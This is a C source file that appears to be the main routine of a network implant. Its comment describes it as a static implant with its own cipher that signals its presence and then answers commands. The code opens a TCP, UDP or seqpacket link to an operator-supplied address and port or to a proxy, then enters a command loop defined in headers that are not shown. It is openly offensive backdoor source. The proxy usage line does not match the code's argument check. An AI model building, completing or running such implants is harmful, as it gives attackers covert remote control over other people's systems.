/*
 * AN0401: a static implant with a cipher of its own: says that it is there, then answers commands.
 * usage: command tcp|udp ADDRESS PORT, or command tcp|seqpacket PROXY - for a proxy behind a unix socket
 */
#include <string.h>
#include <sys/socket.h>

#include "converse.h"
#include "link.h"

int main(int argc, char **argv)
{
	struct frames f;
	int type = SOCK_STREAM;

	if (argc != 4)
		return 64;
	if (strcmp(argv[1], "udp") == 0)
		type = SOCK_DGRAM;
	else if (strcmp(argv[1], "seqpacket") == 0)
		type = SOCK_SEQPACKET;
	frames_begin(&f, link_open(argv[2], argv[3], type), type != SOCK_STREAM);
	return converse(&f);
}
